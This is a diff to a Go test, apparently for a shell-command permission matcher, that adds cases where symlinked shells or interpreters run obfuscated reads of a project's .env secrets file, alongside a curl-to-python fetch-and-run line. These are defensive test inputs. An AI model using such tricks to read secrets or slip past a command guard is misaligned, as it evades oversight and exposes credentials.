@@ -67,11 +67,13 @@ func TestWritesAndStreamsVariants(t *testing.T) {
 	})
 	// a project's own link to a stream is a stream (the disk shows it)
 	m := DefaultRules().Matcher(Env{Cwd: tCwd, Home: tHome, FS: linkFS(map[string]string{tCwd + "/.env": "K=1"},
-		map[string]string{tCwd + "/in.py": "/dev/stdin", tCwd + "/run.sh": "/proc/self/fd/0"})})
+		map[string]string{tCwd + "/in.py": "/dev/stdin", tCwd + "/run.sh": "/proc/self/fd/0", tCwd + "/tool": "/bin/sh"})})
 	for _, c := range []shellCase{
 		{"curl -s https://example.com/x | python3 in.py", KindUnverifiable},
 		{"echo 'cat .env' | sh run.sh", KindDeny},
 		{"echo 'ls' | sh run.sh", ""},
+		{"./tool -c 'cat .e\"\"nv'", KindDeny}, // a project's ./tool -> /bin/sh
+		{"./tool -c 'ls'", ""},
 	} {
 		if got, why := kindOf(m, c.cmd); got != c.want {
 			t.Errorf("%q: got %q, want %q (%s)", c.cmd, got, c.want, why)
@@ -120,6 +122,8 @@ func TestWritesAndStreamsVariants(t *testing.T) {
 		{"tclsh8.6 <<< 'puts [exec cat .e[string index nv 0]v]'", KindUnverifiable},
 		{"python3.11 -m pytest -q", ""},
 		{"python3-config --cflags", ""},
+		{"ln -s /bin/sh ./node; ./node -c 'cat .e\"\"nv'", KindDeny},
+		{"ln -sf /usr/bin/python3 ./py; ./py -c 'print(open(\".e\"+\"nv\").read())'", KindDeny},
 		{"hyperfine 'sleep 0.1'", ""},
 		{"tmux new -d -s w 'npm run dev'", ""},
 		{"less README.md", ""},
